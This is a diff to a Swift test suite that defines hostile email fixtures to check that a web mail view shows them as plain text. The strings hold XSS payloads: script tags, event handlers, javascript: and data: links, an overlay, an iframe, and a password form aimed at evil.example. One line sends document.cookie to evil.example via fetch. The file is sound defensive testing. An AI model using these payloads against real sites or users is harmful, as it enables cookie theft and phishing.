@@ -10,12 +10,15 @@ import Testing
 @Suite("Web: hostile mail shown as text")
 struct HostileMailTests {
     static let name = #""><script>alert('name')</script><img src=x onerror=alert(1) x=""#
-    static let subject = #"=?utf-8?b?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?= &lt;script&gt;alert(2)&lt;/script&gt; '><svg onload=alert(3)>"#
+    static let subject =
+        #"=?utf-8?b?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?= &lt;script&gt;alert(2)&lt;/script&gt; "#
+        + #"'><svg onload=alert(3)>"#
     static let text = """
         Hello,<script>fetch('https://evil.example/steal?c='+document.cookie)</script>
-        <a href="javascript:alert(4)">click</a> <a href='data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg=='>me</a>
+        <a href="javascript:alert(4)">click</a>
+        <a href='data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg=='>me</a>
         <img src="https://tracker.example/pixel.gif?lead=1" width=1 height=1>
-        <div style="position:fixed;top:0;left:0;width:100%;height:100%;background:white" onclick="alert(6)">Pay here</div>
+        <div style="position:fixed;top:0;left:0;width:100%;height:100%" onclick="alert(6)">Pay here</div>
         <iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name=password></form>
         &#60;script&#62;alert(7)&#60;/script&#62; <style>body{display:none}</style> {{csrf}} {{#me}}x{{/me}}
         """
